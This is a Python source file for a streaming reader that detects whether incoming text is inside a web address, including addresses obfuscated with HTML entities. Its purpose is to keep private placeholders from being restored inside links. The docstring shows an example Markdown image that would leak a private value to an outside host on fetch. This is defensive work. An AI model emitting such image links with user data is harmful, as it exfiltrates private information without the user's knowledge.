"""Where a web address stands in an answer: a value put back there would leave with the first fetch.

A page that shows an answer may fetch the image ``![](https://elsewhere/?d=[PERSONNE_7K4Q2M])`` at once. So a
placeholder inside an address stays as it is, unless the caller's own text had that value at that very place.
The reading does not depend on how the text is cut. See docs/decisions/0010-addresses.md.
"""

from __future__ import annotations

import re
from typing import Final

_colon = r"(?::|&colon;|&\#0{0,5}58;|&\#x0{0,5}3a;)[\t\r\n]{0,2}"
_slash = r"(?:[/\\]|&sol;|&bsol;|&\#0{0,5}47;|&\#x0{0,5}2f;|\\u002f)"
# No look-ahead anywhere, and every way to begin ends as soon as it can: a cut changes nothing.
_START: Final = re.compile(
    rf"""(?P<address>(?<![a-z0-9+.-])(?:https?|ftp|wss?){_colon}(?:{_slash}|[a-z0-9]))
    |(?P<other>[a-z][a-z0-9+.-]{{1,11}}{_colon}{_slash}{{2}})
    |(?<![a-z0-9])(?P<named>www[0-9]?\.)
    |(?:\]\(|\]:|url\()[ \t\r\n]{{0,3}}[<"']?(?P<relative>[/\\]{{2}})
    |=[ ]?(?:\\?["'])?(?P<written>/[/\\]|\\/)""",
    re.IGNORECASE | re.VERBOSE,
)
# The last character of every beginning: they are sought first, which is quick.
_LAST: Final = re.compile(r"[/\\;:.](?:(?<!:)|[A-Za-z0-9])")
_NAMED: Final = frozenset("wW0123456789")
_LONGEST_START: Final = 48
_REACH: Final = _LONGEST_START + 16  # with what tells the closing sign
_LONGEST: Final = 4_000  # what is kept of an address, however far it goes
_SPACES: Final = frozenset(" \t\r\n\f\v")
_BARE: Final = _SPACES | frozenset('<>"`')
_DESTINATION: Final = re.compile(r"\]\([ \t\r\n]{0,3}\Z")
_ATTRIBUTE: Final = re.compile(r"=\s{0,3}\\?(?P<quote>[\"'])\Z")


class AddressReader:
    """Reads a text as it comes; ``inside`` says whether what comes next belongs to an address."""

    def __init__(self, *, json_source: bool = False) -> None:
        self._json = json_source
        self._tail = ""
        self._closer = ""  # a sign, or nothing for an address that ends by itself
        self._depth = 0
        self._escaped = False
        self._address: str | None = None

    @property
    def inside(self) -> bool:
        """An address is open."""
        return self._address is not None

    @property
    def address(self) -> str:
        """The open address so far, as it was read."""
        return self._address or ""

    def read(self, text: str) -> None:
        """Go on with ``text``."""
        at = 0
        while at < len(text):
            at = self._leave(text, at) if self.inside else self._enter(text, at)

    def _enter(self, text: str, at: int) -> int:
        """Look for the beginning of an address; where the reading goes on."""
        window = self._tail + (text[at:] if at else text)
        match = self._begun(window, len(self._tail))
        if match is None:
            self._tail = window[-_REACH:]
            return len(text)
        name = str(match.lastgroup)
        lead = window[max(0, match.start(name) - 8) : match.start(name)]
        self._address = window[match.start(name) : match.end()]
        self._closer, self._depth, self._escaped = _closer(lead), 0, window[match.end() - 1] == "\\"
        return at + match.end() - len(self._tail)

    def _begun(self, window: str, new: int) -> re.Match[str] | None:
        for last in _LAST.finditer(window, max(0, new - 2)):
            at = last.start()
            if window[at] == "." and window[at - 1 : at] not in _NAMED:
                continue
            match = _START.search(window, max(0, at - _LONGEST_START), last.end())
            if match is not None and match.end() > new:
                return match
        return None

    def _leave(self, text: str, at: int) -> int:
        """Read to the end of the address; where the reading goes on."""
        for here in range(at, len(text)):
            if self._ends(text[here]):
                self._address, self._tail = None, ""
                return here
            if len(self.address) < _LONGEST:
                self._address = self.address + text[here]
        return len(text)

    def _ends(self, char: str) -> bool:
        escaped, self._escaped = self._escaped, char == "\\" and not self._escaped
        if self._json and char == '"':
            return True
        if self._json and escaped and char in "nrt" and self._closer not in ('"', "'"):
            return True
        if self._closer == ")":
            return char in _SPACES or (not escaped and self._parted(char))
        if self._closer == ">":
            return char == "\n" or (char == ">" and not escaped)
        return char == self._closer if self._closer else char in _BARE

    def _parted(self, char: str) -> bool:
        """Whether this closes the destination of a Markdown link, whose brackets may go in pairs."""
        self._depth += (char == "(") - (char == ")")
        return self._depth < 0


def _closer(lead: str) -> str:
    """The sign that ends an address behind these characters."""
    if lead.endswith("<"):
        return ">"
    if (attribute := _ATTRIBUTE.search(lead)) is not None:
        return attribute["quote"]
    return ")" if _DESTINATION.search(lead) else ""
